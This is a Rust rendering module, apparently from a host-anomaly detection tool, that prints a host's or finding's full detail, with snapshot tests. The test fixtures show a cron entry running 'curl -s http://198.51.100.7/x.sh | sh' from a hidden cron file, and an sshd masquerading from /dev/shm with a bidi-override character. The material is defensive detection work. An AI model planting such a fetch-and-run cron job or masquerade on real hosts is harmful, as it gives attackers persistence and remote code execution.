//! All of one host, or all of one finding: nothing is cut, what is long goes on below.

use std::collections::BTreeMap;
use std::io::Write;

use serde_json::Value;

use super::analysis_table::{head, host_pieces, hosts};
use super::escape::{escape, width};
use super::page::{Page, Piece, Tone, piece};
use super::{Picked, RenderOptions, in_store};
use crate::error::Result;
use crate::model::{
    Analysis, Campaign, Coverage, Finding, FindingKind, HostResult, Nearest, Status, SuppressedBy, count,
};

/// Where the text below a heading begins.
const BELOW: usize = 2;
/// Columns of labels, and of names of columns at most.
const LABEL: usize = 13;
const LONGEST_NAME: usize = 24;
/// The mark of a cell that makes the row a finding.
const DIFFERS: &str = "* ";
const LEGEND: &str = "* differs";

/// What is known beside the analysis.
#[derive(Debug, Clone, Copy, Default)]
pub struct Beside<'a> {
    /// The `--store` that commands are to name, where they must.
    pub store: Option<&'a str>,
    /// What the host answered for each table.
    pub answers: &'a [Coverage],
}

/// Writes all of what was picked.
pub fn render_full(
    (analysis, picked): (&Analysis, &Picked<'_>),
    beside: &Beside<'_>,
    options: &RenderOptions,
    out: &mut dyn Write,
) -> Result<()> {
    let mut page = Page::new(out, options.width, options.color);
    head(&mut page, analysis)?;
    page.blank()?;
    match picked {
        Picked::Host(host) => whole_host(&mut page, analysis, host, beside),
        Picked::Finding(host, finding, by) => {
            page.line(0, &host_pieces(host))?;
            page.blank()?;
            whole_finding(&mut page, analysis, finding)?;
            by.map_or(Ok(()), |by| vouched(&mut page, by))?;
            commands(&mut page, analysis, (&host.host, finding), beside)
        }
    }
}

fn whole_host(
    page: &mut Page<'_>,
    analysis: &Analysis,
    host: &HostResult,
    beside: &Beside<'_>,
) -> Result<()> {
    page.line(0, &host_pieces(host))?;
    labelled(page, "rank", &format!("{} of {}", host.rank, hosts(analysis.hosts_total)))?;
    let group = host.peer_group.and_then(|id| analysis.peer_groups.iter().find(|group| group.id == id));
    if let Some(group) = group {
        told(page, "peers", &format!("group {}, {}: {}", group.id, hosts(group.hosts), group.described_by))?;
    }
    for campaign in analysis.campaigns.iter().filter(|campaign| campaign.hosts.contains(&host.host)) {
        told(page, "campaign", &campaign_text(campaign))?;
    }
    if host.suppressed > 0 {
        let left_out = count(host.suppressed, "finding");
        told(page, "suppressed", &format!("{left_out}, in full with --show-suppressed"))?;
    }
    answered(page, host, beside.answers)?;
    page.blank()?;
    if host.findings.is_empty() {
        page.line(0, &[piece(Tone::Bold, "No findings.")])?;
    }
    for finding in &host.findings {
        whole_finding(page, analysis, finding)?;
        page.blank()?;
    }
    for gone in analysis.suppressed.list.iter().filter(|gone| gone.host == host.host) {
        whole_finding(page, analysis, &gone.finding)?;
        analysis.suppressed.by.get(gone.by).map_or(Ok(()), |by| vouched(page, by))?;
        page.blank()?;
    }
    page.line(0, &[piece(Tone::Dim, "more of a finding: diffy analyze --finding ID")])
}

/// What came, and word for word what did not.
fn answered(page: &mut Page<'_>, host: &HostResult, answers: &[Coverage]) -> Result<()> {
    let coverage = host.coverage;
    let asked = count(coverage.ok + coverage.failed, "table");
    let part = if coverage.partial > 0 { format!(", {} in part", coverage.partial) } else { String::new() };
    labelled(page, "answered", &format!("{} of {asked} in full{part}", coverage.ok))?;
    let mut unanswered: BTreeMap<(Status, u64, &str), Vec<&str>> = BTreeMap::new();
    for answer in answers.iter().filter(|answer| !answer.status.answered()) {
        unanswered.entry((answer.status, answer.rows, &answer.error)).or_default().push(&answer.table);
    }
    for ((status, rows, error), tables) in unanswered {
        // Nobody expects an answer of a system that does not have the table.
        let tone = if status == Status::NotSupported { Tone::Dim } else { Tone::Yellow };
        let kept = if rows > 0 { format!(", {} kept", count(rows, "row")) } else { String::new() };
        let said = if error.is_empty() { String::new() } else { format!(" ({error})") };
        page.told(
            BELOW,
            (piece(tone, status.to_string()), LABEL),
            &format!("{}{kept}{said}", tables.join(", ")),
        )?;
    }
    Ok(())
}

fn whole_finding(page: &mut Page<'_>, analysis: &Analysis, finding: &Finding) -> Result<()> {
    page.line(
        0,
        &[
            piece(Tone::Bold, format!("{:>5.1} ", finding.score)),
            piece(Tone::Plain, format!("{} ", finding.kind)),
            piece(Tone::Cyan, &finding.table),
            piece(Tone::Dim, format!("  finding {}  by {}", finding.id, finding.method)),
        ],
    )?;
    page.sentence(BELOW, Tone::Plain, &finding.reason)?;
    if finding.kind != FindingKind::Coverage {
        let on = format!("{} of {}", finding.hosts_with_row, hosts(finding.hosts_answered));
        labelled(page, "on", &on)?;
    }
    if let Some(first) = finding.first_seen {
        labelled(page, "first seen", &first.format("%Y-%m-%d %H:%M UTC").to_string())?;
    }
    if let Some(given) = &finding.given {
        let context: Vec<String> =
            given.context.iter().map(|(name, value)| format!("{name} {}", spelt(value))).collect();
        let text = format!("{} {} where {}", given.column, spelt(&given.value), context.join(", "));
        labelled(page, "unusual", &text)?;
    }
    for prior in &finding.priors {
        told(page, "content", &format!("it {prior}"))?;
    }
    for technique in &finding.attack {
        let url = attack_url(technique).unwrap_or_default();
        labelled(page, "ATT&CK", format!("{technique}  {url}").trim_end())?;
    }
    for campaign in analysis.campaigns.iter().filter(|campaign| campaign.findings.contains(&finding.id)) {
        told(page, "campaign", &campaign_text(campaign))?;
    }
    rows(page, finding)
}

fn campaign_text(campaign: &Campaign) -> String {
    format!("{} ({})", campaign.reason, campaign.hosts.join(", "))
}

/// The row, and beside it the common one.
fn rows(page: &mut Page<'_>, finding: &Finding) -> Result<()> {
    let empty = serde_json::Map::new();
    let nearest = finding.nearest.as_ref();
    let other = nearest.map_or(&empty, |nearest| &nearest.row);
    let only_there = other.keys().filter(|name| !finding.row.contains_key(*name));
    let names: Vec<&String> = finding.row.keys().chain(only_there).collect();
    if names.is_empty() {
        return Ok(());
    }
    let differ = names.iter().any(|name| marked(finding, name));
    let legend = if differ { LEGEND } else { "" };
    let longest = names.iter().map(|name| width(&escape(name))).max().unwrap_or_default();
    let name_width = (longest.min(LONGEST_NAME) + DIFFERS.len()).max(legend.len());
    let room = page.room(BELOW + name_width + 2);
    let value_width = if nearest.is_some() { room.saturating_sub(2) / 2 } else { room };
    let line = |page: &mut Page<'_>, name: Piece, mine: Piece, theirs: Option<Piece>| {
        let mut cells = vec![(name, name_width), (mine, value_width)];
        cells.extend(theirs.map(|theirs| (theirs, value_width)));
        page.cells(BELOW, &cells)
    };
    page.blank()?;
    let here = if finding.kind == FindingKind::Missing { "missing here" } else { "this host" };
    let there = nearest.map(|nearest| piece(Tone::Dim, nearest_label(finding, nearest)));
    line(page, piece(Tone::Dim, legend), piece(Tone::Dim, here), there)?;
    for name in names {
        let differs = marked(finding, name);
        let (mark, tone) = if differs { (DIFFERS, Tone::Red) } else { ("  ", Tone::Plain) };
        let theirs = nearest.map(|nearest| value_piece(Tone::Green, nearest.row.get(name), differs));
        line(
            page,
            piece(Tone::Dim, format!("{mark}{name}")),
            value_piece(tone, finding.row.get(name), true),
            theirs,
        )?;
    }
    Ok(())
}

fn value_piece(tone: Tone, value: Option<&Value>, is_marked: bool) -> Piece {
    let tone = if is_marked { tone } else { Tone::Plain };
    piece(tone, value.map(spelt).unwrap_or_default())
}

fn marked(finding: &Finding, name: &String) -> bool {
    let differs = finding.nearest.as_ref().is_some_and(|nearest| nearest.differs.contains(name));
    differs || finding.given.as_ref().is_some_and(|given| given.column == *name)
}

fn nearest_label(finding: &Finding, nearest: &Nearest) -> String {
    let on = hosts(nearest.hosts_with_row);
    match finding.kind {
        FindingKind::New => format!("most alike, on {on}"),
        FindingKind::Changed => "in the baseline".to_owned(),
        _ => format!("instead on {on}"),
    }
}

/// A value as text; quoted where it is empty or its ends would not be seen.
fn spelt(value: &Value) -> String {
    match value {
        Value::String(text) if text.is_empty() || text.trim() != text || text.starts_with('"') => {
            value.to_string()
        }
        Value::String(text) => text.clone(),
        _ => value.to_string(),
    }
}

fn vouched(page: &mut Page<'_>, by: &SuppressedBy) -> Result<()> {
    let until = by.until.map(|until| format!(", until {until}")).unwrap_or_default();
    told(page, "suppressed", &format!("{} ({}{until})", by.reason, by.who))
}

fn commands(
    page: &mut Page<'_>,
    analysis: &Analysis,
    (host, finding): (&str, &Finding),
    beside: &Beside<'_>,
) -> Result<()> {
    for (what, command) in in_store::queries(analysis.snapshot, (host, finding), beside.store) {
        page.blank()?;
        page.line(0, &[piece(Tone::Bold, format!("{what}:"))])?;
        page.command(&command)?;
    }
    page.blank()?;
    page.line(0, &[piece(Tone::Bold, "If it is harmless:")])?;
    page.command(&in_store::suppress(analysis, finding, beside.store))
}

/// `label  sentence`.
fn told(page: &mut Page<'_>, label: &str, text: &str) -> Result<()> {
    page.told(BELOW, (piece(Tone::Dim, label), LABEL), text)
}

/// `label  value`, on as many lines as it takes.
fn labelled(page: &mut Page<'_>, label: &str, text: &str) -> Result<()> {
    let room = page.room(BELOW + LABEL + 2);
    page.cells(BELOW, &[(piece(Tone::Dim, label), LABEL), (piece(Tone::Plain, text), room)])
}

/// The page of a technique; none for an id that is not spelled as ATT&CK spells them.
pub(super) fn attack_url(technique: &str) -> Option<String> {
    let digits =
        |text: &str, many: usize| text.len() == many && text.bytes().all(|byte| byte.is_ascii_digit());
    let (main, sub) = technique.strip_prefix('T')?.split_once('.').unzip();
    let main = main.unwrap_or(&technique[1..]);
    let is_one = digits(main, 4) && sub.is_none_or(|sub| digits(sub, 3));
    is_one.then(|| format!("https://attack.mitre.org/techniques/{}/", technique.replace('.', "/")))
}

#[cfg(test)]
mod tests {
    use insta::assert_snapshot;

    use super::super::analysis_table::tests::sample;
    use super::super::escape::{deceives, width};
    use super::super::{pick_finding, pick_host};
    use super::*;

    fn page(picked: &Picked<'_>, width: usize, color: bool) -> String {
        let answers = [Coverage {
            host: "i-0a1b2c3d4e5f60718".to_owned(),
            table: "kernel_modules".to_owned(),
            status: Status::Timeout,
            rows: 0,
            bytes: 0,
            error: "no answer\u{202e} within 30 s".to_owned(),
            columns_missing: Vec::new(),
            started: None,
            ended: None,
            osquery_version: None,
            uid: None,
        }];
        let beside = Beside { store: Some("./other store"), answers: &answers };
        let mut bytes = Vec::new();
        let options = RenderOptions { width, color, top: 1 };
        render_full((&sample(), picked), &beside, &options, &mut bytes).unwrap();
        String::from_utf8(bytes).unwrap()
    }

    #[test]
    fn a_host_in_full() {
        assert_snapshot!(page(&pick_host(&sample(), "i-0a1b2c3d4e5f60718").unwrap(), 80, false), @r#"
        fleet web  snapshot 01KBRZ8T600000000000000000  collected 2025-12-06 08:00 UTC
        59 of 60 hosts answered  compared by baseline, frequency, cluster
        baseline golden of 2025-11-01
        history 12 snapshots since 2025-11-06
        peer group 0: 58 hosts, image ami-0123
        peer group 1: 1 host, image ami-4567

          1 i-0a1b2c3d4e5f60718  outlier 93.1
          rank           1 of 60 hosts
          peers          group 0, 58 hosts: image ami-0123
          campaign       The same cron line and the same sshd stand on these two hosts
                         and nowhere else. (i-0a1b2c3d4e5f60718, i-0b1b2c3d4e5f60719)
          answered       27 of 28 tables in full
          timeout        kernel_modules (no answer\u{202e} within 30 s)

         31.0 new crontab  finding f1  by frequency
          Only this host runs this command from cron; it fetches a script from the
          network and runs it.
          on             1 of 58 hosts
          first seen     2025-12-06 08:00 UTC
          ATT&CK         T1053.003  https://attack.mitre.org/techniques/T1053/003/
          campaign       The same cron line and the same sshd stand on these two hosts
                         and nowhere else. (i-0a1b2c3d4e5f60718, i-0b1b2c3d4e5f60719)

                          this host
            command       curl -s http://198.51.100.7/x.sh | sh
            path          /etc/cron.d/.sync
            minute        */5
            hour          *
            day_of_month  *
            month         *
            day_of_week   *
            event         ""

         24.0 variant processes  finding f2  by cluster
          All other hosts run sshd from /usr/sbin/sshd.
          on             2 of 58 hosts
          unusual        path /dev/shm/sshd where name sshd
          ATT&CK         T1036.005  https://attack.mitre.org/techniques/T1036/005/
          ATT&CK         T1554  https://attack.mitre.org/techniques/T1554/
          campaign       The same cron line and the same sshd stand on these two hosts
                         and nowhere else. (i-0a1b2c3d4e5f60718, i-0b1b2c3d4e5f60719)

          * differs  this host                         instead on 57 hosts
            name     sshd                              sshd
          * path     /dev/shm/\u{202e}dhss/a-rather-l  /usr/sbin/sshd
                     ong-directory/with/another/one/s
                     shd
            cmdline  sshd: [listener]
            uid      0

          6.5 coverage kernel_modules  finding f3  by coverage
          57 hosts answered for kernel_modules, this one timed out.

        more of a finding: diffy analyze --finding ID
        "#);
    }

    #[test]
    fn a_finding_in_full() {
        assert_snapshot!(page(&pick_finding(&sample(), "f2").unwrap(), 100, false), @r#"
        fleet web  snapshot 01KBRZ8T600000000000000000  collected 2025-12-06 08:00 UTC
        59 of 60 hosts answered  compared by baseline, frequency, cluster
        baseline golden of 2025-11-01
        history 12 snapshots since 2025-11-06
        peer group 0: 58 hosts, image ami-0123
        peer group 1: 1 host, image ami-4567

          1 i-0a1b2c3d4e5f60718  outlier 93.1

         24.0 variant processes  finding f2  by cluster
          All other hosts run sshd from /usr/sbin/sshd.
          on             2 of 58 hosts
          unusual        path /dev/shm/sshd where name sshd
          ATT&CK         T1036.005  https://attack.mitre.org/techniques/T1036/005/
          ATT&CK         T1554  https://attack.mitre.org/techniques/T1554/
          campaign       The same cron line and the same sshd stand on these two hosts and nowhere else.
                         (i-0a1b2c3d4e5f60718, i-0b1b2c3d4e5f60719)

          * differs  this host                                   instead on 57 hosts
            name     sshd                                        sshd
          * path     /dev/shm/\u{202e}dhss/a-rather-long-direct  /usr/sbin/sshd
                     ory/with/another/one/sshd
            cmdline  sshd: [listener]
            uid      0

        The table on this host:
        diffy query --store './other store' "SELECT * FROM processes WHERE snapshot = '01KBRZ8T600000000000000000' AND host = 'i-0a1b2c3d4e5f60718'"

        If it is harmless:
        diffy analyze --store './other store' --fleet web --snapshot 01KBRZ8T600000000000000000 --suppress known.toml --suppress-add f2 --reason 'WHY'
        "#);
    }

    #[test]
    fn nothing_but_commands_passes_the_edge_and_nothing_deceives() {
        let analysis = sample();
        for id in ["f1", "f2", "f3"] {
            let text = page(&pick_finding(&analysis, id).unwrap(), 60, false);
            let (view, commands) = text.split_once("\ndiffy query").unwrap();
            assert!(view.lines().all(|line| width(line) <= 60), "{view}");
            assert!(!text.chars().any(|c| c != '\n' && deceives(c)), "{text}");
            assert!(commands.starts_with(" --store './other store' "), "{commands}");
        }
    }

    #[test]
    fn only_techniques_have_a_page() {
        assert_eq!(attack_url("T1053.003").unwrap(), "https://attack.mitre.org/techniques/T1053/003/");
        assert_eq!(attack_url("T1053").unwrap(), "https://attack.mitre.org/techniques/T1053/");
        for wrong in ["", "T", "T10530", "T1053.3", "TA0001", "T1053/../x"] {
            assert_eq!(attack_url(wrong), None, "{wrong}");
        }
    }
}
